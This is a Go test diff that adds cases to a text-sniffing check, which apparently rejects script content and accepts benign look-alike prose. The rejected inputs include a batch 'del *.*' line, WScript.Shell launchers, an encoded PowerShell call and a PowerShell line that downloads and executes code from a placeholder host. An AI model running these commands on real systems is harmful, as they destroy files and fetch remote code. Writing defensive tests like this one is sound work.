@@ -30,6 +30,12 @@ func TestTextsAreToldFromWhatTheySpeakOf(t *testing.T) {
 		{"a.txt", "text/plain", "\xc4\xe3\xba\xc3\xca\xc0\xbd\xe7", true},                               // GBK
 		{"a.txt", "text/plain", strings.Repeat("\x90", 5000), false}, {"a.txt", "text/plain", "\x80\xff\x81\xfe\x80\xff", false},
 		{"a.csv", "text/csv", "\x00\x01\x02,\xff\xfe", false},
+		{"a.txt", "text/plain", "@echo off\r\ndel *.*\r\n", false}, {"a.txt", "text/plain", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"", false},
+		{"a.txt", "text/plain", "var s = new ActiveXObject('WScript.Shell');", false}, {"a.txt", "text/plain", "#!python\nimport os\n", false},
+		{"a.log", "text/plain", "powershell -enc SQBFAFgA", false}, {"a.txt", "text/plain", "IEX (New-Object Net.WebClient).DownloadString('http://x')", false},
+		{"a.txt", "text/plain", "<HTA:APPLICATION>", false}, {"a.txt", "text/plain", "$x = (New-Object Net.WebClient)\n", false},
+		{"a.txt", "text/plain", "Set theory and functions\n", true}, {"a.txt", "text/plain", "Try CreateObject in VBScript.\n", true}, {"a.txt", "text/plain", "@echo: hi\n", true},
+		{"a.txt", "text/plain", "PowerShell is a shell; powershell -enc takes base64.\n", true}, {"a.txt", "text/plain", "var x = 1;\n", true}, {"a.csv", "text/csv", "set ,dim \n1,2\n", true},
 	} {
 		if got := sniffText(t, p, c.text, c.name, c.media); got != c.want {
 			t.Errorf("%s with %.40q: accepted is %v", c.name, c.text, got)
